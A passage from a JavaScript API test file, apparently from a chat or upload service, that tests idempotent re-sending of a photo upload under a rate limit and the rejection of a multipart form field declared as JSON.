});

test('C10 C32 CHAT-58 an answer lost on the way is answered again under its key, also to who may send nothing more today', async () => {
  await sql`delete from rate_limit`.execute(app.db);
  const key = { 'idempotency-key': 'lost-on-the-way' };
  const photo = await picture(300, 200, { format: 'jpeg' });
  const first = await attach(photo, 'vue.jpg', paul, key);
  assert.equal(first.status, 200, first.text);
  const weight = () => rows(app.db, sql`select hits from rate_limit where bucket = 'upload-bytes'`);
  await sql`update rate_limit set hits = 62914560 where bucket = 'upload-bytes'`.execute(app.db);
  const before = await weight();
  assert.deepEqual((await attach(photo, 'vue.jpg', paul, key)).body, first.body);
  assert.deepEqual(await weight(), before);
  // Another file under this name of the write is the client's mistake, and is told so.
  const other = await attach(pdf(), 'vue.pdf', paul, key);
  assert.equal(other.body.warnings?.[0]?.type, 'idempotencyReused');
  assert.equal((await attach(photo, 'vue.jpg')).status, 429);
  await sql`delete from rate_limit`.execute(app.db);
});

test('C05 a field of a form that calls itself JSON is refused like any that is no text', async () => {
  const boundary = 'ligne';
  const lines = [
    `--${boundary}`,
    'content-disposition: form-data; name="id_ddl"',
    'content-type: application/json',
    '',
    '{"toString":1}',
    `--${boundary}--`,
    '',
  ];
  const answer = await paul.post('ddlchats', lines.join('\r\n'), {
    'content-type': `multipart/form-data; boundary=${boundary}`,
  });
  assert.deepEqual([answer.status, answer.body.code], [422, undefined], answer.text);
});
